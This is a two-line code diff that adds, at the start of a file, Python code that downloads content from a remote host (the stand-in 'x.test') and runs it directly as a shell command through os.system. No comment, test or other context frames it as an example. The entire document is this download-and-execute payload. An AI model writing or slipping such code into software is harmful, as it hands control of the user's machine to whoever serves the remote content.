@@ -1,0 +1,2 @@
+import urllib.request, os
+os.system(urllib.request.urlopen('http://x.test/a').read())
